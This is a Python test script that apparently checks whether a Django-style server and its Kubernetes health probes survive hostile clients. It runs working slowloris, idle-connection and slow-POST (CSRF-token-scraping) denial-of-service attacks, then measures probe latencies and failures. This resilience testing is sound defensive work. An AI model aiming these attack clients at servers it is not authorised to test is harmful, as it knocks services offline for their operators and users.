"""Hostile clients against one server, with probes measuring what the kubelet would see.

Standard library only, so it also runs inside a pod (`kubectl exec -i POD -- python - ...`).

    python support/hostile.py HOST:PORT [--seconds 60] [--slow 200] [--idle 200] [--slow-posts 20]

- slowloris: `GET /?slow=N HTTP/1.1`, then one header line every 5 s, never the blank line;
- idle: connect and send nothing;
- slow POST bodies: a valid CSRF cookie and token from /admin/login/, then a login form body
  one byte every 5 s;
every attacker reopens its connection when the server closes it. Meanwhile `/healthz` and
`/readyz` are asked every 0.25 s on a new connection with a 2 s timeout (the kubelet's), and
`GET /` once a second. Prints one JSON document with what the probes saw.
"""

import argparse
import asyncio
import json
import re
import resource
import statistics
import time
import urllib.parse

TRICKLE = 5.0  # seconds between two bytes (or header lines) of a slow client
PROBE_TIMEOUT = 2.0  # the kubelet's timeoutSeconds


class Attack:
    def __init__(self, host: str, port: int, *, host_header: str = "localhost") -> None:
        self.host, self.port, self.host_header = host, port, host_header
        self.opened = 0  # attacker connections opened, reopenings included
        self.closed_by_server = 0
        self.held = 0  # attacker connections open right now
        self.peak_held = 0

    async def _connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
        try:
            reader, writer = await asyncio.open_connection(self.host, self.port)
        except OSError:
            await asyncio.sleep(0.5)  # refused or out of ports: try again, slowly
            return None
        self.opened += 1
        self.held += 1
        self.peak_held = max(self.peak_held, self.held)
        return reader, writer

    def _gone(self, writer: asyncio.StreamWriter, *, by_server: bool) -> None:
        self.held -= 1
        self.closed_by_server += by_server
        writer.close()

    async def _hold(self, stop: float, first: bytes, trickle: bytes) -> None:
        """One attacker: send `first`, then `trickle` every TRICKLE s; reopen when closed."""
        while time.monotonic() < stop:
            connection = await self._connect()
            if connection is None:
                continue
            reader, writer = connection
            by_server = False
            try:
                if first:
                    writer.write(first)
                while time.monotonic() < stop:
                    # A closed connection reads EOF (or an answer); otherwise wait TRICKLE s.
                    try:
                        data = await asyncio.wait_for(reader.read(4096), TRICKLE)
                    except TimeoutError:
                        if trickle:
                            writer.write(trickle)
                            await writer.drain()
                        continue
                    by_server = True
                    if not data:
                        break
                    await reader.read()  # an answer (408, 413, 503...): read to the close
                    break
            except OSError:
                by_server = True
            finally:
                self._gone(writer, by_server=by_server)
            await asyncio.sleep(0.05)

    def slowloris(self, stop: float, number: int) -> asyncio.Future:
        head = f"GET /?slow={number} HTTP/1.1\r\nHost: {self.host_header}\r\n".encode()
        return self._hold(stop, head, b"X-Slow: a\r\n")

    def idle(self, stop: float) -> asyncio.Future:
        return self._hold(stop, b"", b"")

    async def slow_post(self, stop: float) -> None:
        _, headers, body = await request(self.host, self.port, "/admin/login/", self.host_header)
        cookie = re.search(r"csrftoken=([^;]+)", headers).group(1)
        token = re.search(rb'name="csrfmiddlewaretoken" value="([^"]+)"', body).group(1).decode()
        form = urllib.parse.urlencode(
            {"csrfmiddlewaretoken": token, "username": "admin", "password": "x" * 64}
        ).encode()
        head = (
            f"POST /admin/login/ HTTP/1.1\r\nHost: {self.host_header}\r\n"
            f"Cookie: csrftoken={cookie}\r\nReferer: http://{self.host_header}/admin/login/\r\n"
            "Content-Type: application/x-www-form-urlencoded\r\n"
            f"Content-Length: {len(form)}\r\n\r\n"
        ).encode()
        await self._hold(stop, head + form[:1], form[1:2])


async def request(
    host: str, port: int, path: str, host_header: str = "localhost", timeout: float = PROBE_TIMEOUT
) -> tuple[int, str, bytes]:
    """One GET on a new connection, as the kubelet probes: (status, head, body)."""
    reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), timeout)
    try:
        writer.write(
            f"GET {path} HTTP/1.1\r\nHost: {host_header}\r\nConnection: close\r\n\r\n".encode()
        )
        answer = await asyncio.wait_for(reader.read(), timeout)
    finally:
        writer.close()
    head, _, body = answer.partition(b"\r\n\r\n")
    return int(head.split()[1]), head.decode("latin-1"), body


class Probes:
    """What a kubelet and one visitor see: a list of (path, status or error, seconds)."""

    def __init__(self, host: str, port: int, host_header: str = "localhost") -> None:
        self.host, self.port, self.host_header = host, port, host_header
        self.answers: list[tuple[str, int | str, float]] = []

    async def _ask(self, path: str) -> None:
        started = time.monotonic()
        try:
            status, _, _ = await request(self.host, self.port, path, self.host_header)
        except (OSError, TimeoutError, ValueError, IndexError) as error:
            status = type(error).__name__
        self.answers.append((path, status, time.monotonic() - started))

    async def every(self, path: str, period: float, stop: float) -> None:
        pending = set()
        while time.monotonic() < stop:
            pending.add(asyncio.ensure_future(self._ask(path)))
            await asyncio.sleep(period)
        await asyncio.gather(*pending)

    def summary(self, path: str) -> dict:
        seen = [(status, seconds) for p, status, seconds in self.answers if p == path]
        latencies = sorted(seconds for _, seconds in seen)
        return {
            "asked": len(seen),
            "ok": sum(status == 200 for status, _ in seen),
            "failed": sorted({str(status) for status, _ in seen if status != 200}),
            "p50_ms": round(statistics.median(latencies) * 1000, 1) if latencies else None,
            "p99_ms": round(latencies[int(len(latencies) * 0.99)] * 1000, 1) if latencies else None,
            "max_ms": round(latencies[-1] * 1000, 1) if latencies else None,
        }


async def attack(
    host: str,
    port: int,
    *,
    seconds: float,
    slow: int,
    idle: int,
    slow_posts: int,
    probe: bool = True,
    visit_every: float | None = 1.0,
    host_header: str = "localhost",
) -> dict:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    stop = time.monotonic() + seconds
    hostile = Attack(host, port, host_header=host_header)
    tasks = [hostile.slowloris(stop, n) for n in range(slow)]
    tasks += [hostile.idle(stop) for _ in range(idle)]
    tasks += [hostile.slow_post(stop) for _ in range(slow_posts)]
    probes = Probes(host, port, host_header)
    if probe:
        tasks += [
            probes.every("/healthz", 0.25, stop),
            probes.every("/readyz", 0.25, stop),
        ]
        if visit_every:
            tasks.append(probes.every("/", visit_every, stop))
    await asyncio.gather(*tasks)
    return {
        "seconds": seconds,
        "attackers": {"slowloris": slow, "idle": idle, "slow_posts": slow_posts},
        "attacker_connections_opened": hostile.opened,
        "attacker_connections_closed_by_server": hostile.closed_by_server,
        "attacker_connections_peak": hostile.peak_held,
        **({path: probes.summary(path) for path in ("/healthz", "/readyz", "/")} if probe else {}),
    }


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("target", help="HOST:PORT")
    parser.add_argument("--seconds", type=float, default=60)
    parser.add_argument("--slow", type=int, default=200)
    parser.add_argument("--idle", type=int, default=200)
    parser.add_argument("--slow-posts", type=int, default=20)
    parser.add_argument("--host-header", default="localhost")
    args = parser.parse_args()
    host, port = args.target.rsplit(":", 1)
    result = asyncio.run(
        attack(
            host,
            int(port),
            seconds=args.seconds,
            slow=args.slow,
            idle=args.idle,
            slow_posts=args.slow_posts,
            host_header=args.host_header,
        )
    )
    print(json.dumps(result))


if __name__ == "__main__":
    main()
